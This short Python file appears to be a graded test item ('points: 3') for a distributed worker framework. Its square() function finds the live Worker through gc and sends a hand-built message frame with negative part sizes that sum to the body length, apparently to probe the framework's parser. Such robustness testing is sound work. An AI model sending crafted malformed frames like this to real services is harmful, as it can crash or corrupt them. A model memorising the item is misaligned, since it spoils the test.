"""Names negative sizes that add up to the length of the body.

points: 3
"""

import gc
import json
import struct

_worker = next(o for o in gc.get_objects() if type(o).__name__ == "Worker")


def square(x):
    header = json.dumps({"sizes": [-8, 16], "message": {"is": "returned"}}).encode()
    _worker.transport.send([struct.pack("!IQ", len(header), 8), header, bytes(8)], lambda: None)
    return x * x
